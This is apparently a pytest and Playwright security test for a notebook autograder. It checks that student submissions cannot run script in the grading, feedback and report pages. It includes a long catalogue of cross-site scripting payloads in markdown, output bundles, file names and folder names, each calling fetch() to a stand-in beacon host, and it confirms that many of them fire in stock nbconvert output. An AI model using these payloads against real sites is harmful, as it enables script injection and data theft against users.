"""Script in a submission, and the pages that show it: formgrader, feedback and report, in a real browser.

Every trick that works asks a server that there is not for its own name: the test sees the request.
First the same notebook is shown as stock nbconvert does it, where most tricks work; so a trick that
does nothing on our pages was one.
"""

import contextlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from playwright.sync_api import Browser, BrowserContext, Error, Request

from autograder.grading.lookback import look_back
from autograder.grading.report import write_report
from tests.grading.conftest import RIGHT, make_class
from tests.grading.formgrader import Formgrader, formgrader_of, submission_of

pytestmark = [pytest.mark.slow, pytest.mark.browser]

_NOWHERE = "beacon.invalid"


def _asks(name: str) -> str:
    return f"fetch(`http://{_NOWHERE}/{name}`)"


#: Name → markdown. What has to be clicked is clicked.
MARKDOWN = {
    "script": "<script>@</script>",
    "image": "<img src=x onerror=@>",
    "image-unclosed": "<img src=x onerror=@ \n\nand more",
    "svg": "<svg onload=@></svg>",
    "svg-script": "<svg><script>@</script></svg>",
    "svg-animation": "<svg><animate onbegin=@ attributeName=x dur=1s></svg>",
    "frame": '<iframe srcdoc="<script>parent.@</script>"></iframe>',
    "frame-of-script": '<iframe src="javascript:@"></iframe>',
    "frame-of-data": "<iframe src=\"data:text/html,<script>@</script>\"></iframe>",
    "frame-elsewhere": "<iframe src=http://@@></iframe>",
    "link": '<a href="javascript:@">click</a>',
    "link-in-markdown": "[click](javascript:@)",
    "link-with-entities": "[click](&#106;avascript&colon;@)",
    "link-with-a-tab": '<a href="java\tscript:@">click</a>',
    "link-by-reference": "[click][there]\n\n[there]: javascript:@",
    "link-in-svg": '<svg width=50 height=50><a xlink:href="javascript:@"><text y=20>click</text></a></svg>',
    "picture-elsewhere": "![picture](http://@@)",
    "picture-elsewhere-in-html": "<img src=//@@>",
    "object": "<object data=http://@@></object><embed src=http://@@>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://@@">',
    "base": "<base href=http://@@/>\n\n![relative](relative.png)",
    "form": "<form action=http://@@><button class=click>click</button></form>",
    "focus": "<input autofocus onfocus=@>",
    "style-import": "<style>@import 'http://@@';</style>",
    "style-picture": "<div style=\"background:url('http://@@');height:9px\">x</div>",
    "style-cursor": "<p style=\"cursor:url('http://@@'),auto;list-style:url(http://@@)\">x</p>",
    "style-sheet": "<link rel=stylesheet href=http://@@>",
    "details": "<details open ontoggle=@><summary>x</summary></details>",
    "sound": "<audio src=x onerror=@></audio><video poster=http://@@></video>",
    "animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=@>x</p>",
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">',  # noqa: E501
    "no-script": '<noscript><p title="</noscript><img src=x onerror=@>"></noscript>',
    "comment": "<!--><img src=x onerror=@>-->",
    "template": "<template><img src=x onerror=@></template><textarea></textarea><img src=x onerror=@>",
    "code-that-ends": "```\n</code></pre><img src=x onerror=@>\n```",
    "attachment": "![a](attachment:a.png)",
    "formula": "$\\href{javascript:@}{click}$, $<img src=x onerror=@>$, $$\\unicode{<img src=x onerror=@>}$$",
    "button-of-the-page": '<span class="full-credit btn">click</span><input class="score" value="9">',
    "heading-of-the-page": "# square--hidden\n\n<p id=square--hidden class=score>x</p>",
}  # fmt: skip

_BUNDLE = "from IPython.display import publish_display_data as _p\n_p({!r}, {!r})"
_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='@'><script>@</script><image href='http://@@'/></svg>"
#: Name → the data and the metadata of an output.
OUTPUTS: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "output-script": ({"text/html": "<script>@</script>"}, {}),
    "output-image": ({"text/html": "<table><tr><td><img src=x onerror=@></td></tr></table>"}, {}),
    "output-frame": ({"text/html": "<img src=x onerror=parent.@>"}, {"text/html": {"isolated": True}}),
    "output-javascript": ({"application/javascript": "@"}, {}),
    "output-svg": ({"image/svg+xml": _SVG}, {}),
    "output-markdown": ({"text/markdown": "<img src=x onerror=@> [click](javascript:@)"}, {}),
    "output-latex": ({"text/latex": "$\\href{javascript:@}{click}$</div><img src=x onerror=@>"}, {}),
    "output-widget": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><img src=x onerror=@>"}}, {},
    ),
    "output-plain": ({"text/plain": "<img src=x onerror=@>"}, {}),
    "output-picture": ({"image/png": 'x" onerror="@'}, {}),
    "output-size": ({"image/png": _PNG}, {"image/png": {"width": "1 onload= @"}}),
    "output-elsewhere": ({"image/png": _PNG}, {"filenames": {"image/png": "http://@@"}}),
    "output-alt": ({"image/png": _PNG}, {"image/png": {"alt": '" onload="@'}}),
}  # fmt: skip
CODE = {
    "stream": "print('<img src=x onerror=@></pre><script>@</script>')",
    "ansi": "print('\\x1b]8;;javascript:@\\x1b\\\\click\\x1b]8;;\\x1b\\\\ \\x1b[38;2;1;2;\"onclick=@mx')",
    "source": "# </textarea></pre></script><img src=x onerror=@>",
    "error": "raise type('<img src=x onerror=@>', (Exception,), {})('\\x1b[31m</pre><script>@</script>')",
}
#: So many work in stock pages, in any browser; some need a server, a click, or another page around them.
_WORK = 28


def _filled(value: Any, name: str, quote: str = "'") -> Any:
    """A trick that asks for its own name. `quote` stands around what is an attribute."""
    if isinstance(value, dict):
        return {key: _filled(inner, name) for key, inner in value.items()}
    if not isinstance(value, str):
        return value
    text = value.replace("@@", f"{_NOWHERE}/{name}").replace("@import", "\0").replace("@keyframes", "\1")
    text = text.replace("=@", f"={quote}{_asks(name)}{quote}").replace("@", _asks(name))
    return text.replace("\0", "@import").replace("\1", "@keyframes")


def _markdown(name: str) -> dict[str, Any]:
    source = f"Words of {name}.\n\n{_filled(MARKDOWN[name], name)}"
    cell: dict[str, Any] = {"cell_type": "markdown", "metadata": {}, "source": source}
    if name == "attachment":
        cell["attachments"] = {"a.png": {"image/png": f'x" onerror="{_asks(name)}'}}
    return cell


def _hostile(notebook: Any) -> None:
    """Put every trick into a notebook."""
    notebook["cells"] += map(_markdown, MARKDOWN)
    for name, (data, about) in OUTPUTS.items():
        notebook["cells"].append(_code(_BUNDLE.format(_filled(data, name), _filled(about, name))))
    notebook["cells"] += [_code(_filled(text, name, "")) for name, text in CODE.items()]
    notebook["cells"].append(
        {"cell_type": "raw", "metadata": {}, "source": _filled("<img src=x onerror=@>", "raw")}
    )


def _code(source: str) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}


ESSAY = (
    f"Because of <em>Archimedes</em>. <img src=x onerror={_asks('essay')}><script>{_asks('essay')}</script>"
)


@pytest.fixture(scope="module")
def formgrader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Formgrader]:
    """A class of two, one of them hostile, graded with real kernels; its course sets nothing to be safe."""
    folder = tmp_path_factory.mktemp("pages")
    klass = make_class(folder / "course")
    klass.hand_in("honest")
    klass.hand_in("hostile", RIGHT | {"essay": ESSAY}, _hostile)
    (klass.folder("hostile") / f"<img src=x onerror={_asks('file').replace('/', '⁄')}>.txt").touch()
    odd = klass.folder(f"<img src=http:\\\\{_NOWHERE}\\student>")
    (odd / "ps1.ipynb").write_text(json.dumps(klass.answered(RIGHT)))
    klass.grade(feedback=True)
    with formgrader_of(klass, folder) as found:
        yield found


@pytest.fixture
def watched(chromium: Browser) -> Iterator[tuple[BrowserContext, list[str]]]:
    """A browser, and what its pages ask of the server that there is not, or want to change."""
    asked: list[str] = []

    def look(request: Request) -> None:
        if _NOWHERE in request.url or request.method != "GET":
            asked.append(f"{request.method} {request.url}")

    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    context.on("request", look)
    yield context, asked
    context.close()


_CLICK = """() => {
    for (const place of document.querySelectorAll('.text_cell_render, .output_area, .rendered_html, td'))
        for (const found of place.querySelectorAll('a, button, .click, .full-credit, span'))
            if (!found.href || !String(found.href).startsWith('http'))
                found.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))
}"""


def _show(context: BrowserContext, address: str, words: str, click: bool = True) -> str:
    """Open a page, wait for words on it, click on all that a student's text has; the text before that."""
    page = context.new_page()
    page.goto(address, wait_until="domcontentloaded")
    page.wait_for_function("words => document.body.innerText.includes(words)", arg=words)
    page.wait_for_timeout(1000)
    text = page.inner_text("body")
    if click:
        page.evaluate(_CLICK)
        page.wait_for_timeout(500)
    return text


def _named(asked: list[str]) -> set[str]:
    return {request.rstrip("/").split(f"{_NOWHERE}/")[-1].split("/")[0] for request in asked}


def test_the_tricks_work_where_nothing_is_done_about_them(
    watched: tuple[BrowserContext, list[str]], tmp_path: Path
) -> None:
    """Each in a frame of its own, since some would end the others."""
    context, asked = watched
    exporter, frames = HTMLExporter(template_name="basic"), ""
    for name in (*MARKDOWN, *OUTPUTS):
        cell = nbformat.from_dict(_markdown(name)) if name in MARKDOWN else nbformat.v4.new_code_cell("")
        if name in OUTPUTS:
            data, about = (_filled(part, name) for part in OUTPUTS[name])
            cell.outputs.append(nbformat.v4.new_output("display_data", data=data, metadata=about))
        shown, _ = exporter.from_notebook_node(nbformat.v4.new_notebook(cells=[cell]))
        frame = f"<!doctype html><script>var $ = () => null</script><body>{shown}"
        (tmp_path / f"{name}.html").write_text(frame, encoding="utf-8")
        frames += f"<iframe src={name}.html></iframe>"
    (tmp_path / "all.html").write_text(f"<!doctype html><body>{frames}", encoding="utf-8")
    page = context.new_page()
    page.goto((tmp_path / "all.html").as_uri(), wait_until="commit")
    page.wait_for_timeout(3000)
    for frame in page.frames:
        with contextlib.suppress(Error):  # it has gone elsewhere
            frame.evaluate(_CLICK)
    page.wait_for_timeout(500)
    assert len({*MARKDOWN, *OUTPUTS} & _named(asked)) >= _WORK


def test_nothing_of_a_submission_runs_in_formgrader(
    formgrader: Formgrader, watched: tuple[BrowserContext, list[str]]
) -> None:
    context, asked = watched
    address = f"{formgrader.url}/formgrader/submissions/{submission_of(formgrader, 'hostile')}/"
    text = _show(context, address, "Because of Archimedes.")
    assert asked == []
    for words in ("Because of Archimedes.", "return x * x", *(f"Words of {name}." for name in MARKDOWN)):
        assert words in text, words


@pytest.mark.parametrize(
    ("page", "words"),
    [
        ("manage_submissions/ps1", "hostile"),
        ("gradebook/ps1/ps1", "Submission #2"),
        ("manage_students", "hostile"),
    ],
)
def test_nothing_of_a_submission_runs_in_the_lists(
    formgrader: Formgrader, watched: tuple[BrowserContext, list[str]], page: str, words: str
) -> None:
    context, asked = watched
    # What can be clicked in these lists is formgrader's own, such as the button that grades.
    assert words in _show(context, f"{formgrader.url}/formgrader/{page}", words, click=False)
    assert asked == []


def test_nothing_of_a_submission_runs_in_feedback_and_report(
    formgrader: Formgrader, watched: tuple[BrowserContext, list[str]]
) -> None:
    context, asked = watched
    klass = formgrader.klass
    feedback = klass.root / "feedback" / "hostile" / "ps1" / "ps1.html"
    assert _show(context, feedback.as_uri(), "Because of Archimedes.")
    report = write_report(klass.course, look_back(klass.course, "ps1"))
    assert _show(context, report.as_uri(), "hostile")
    assert asked == []
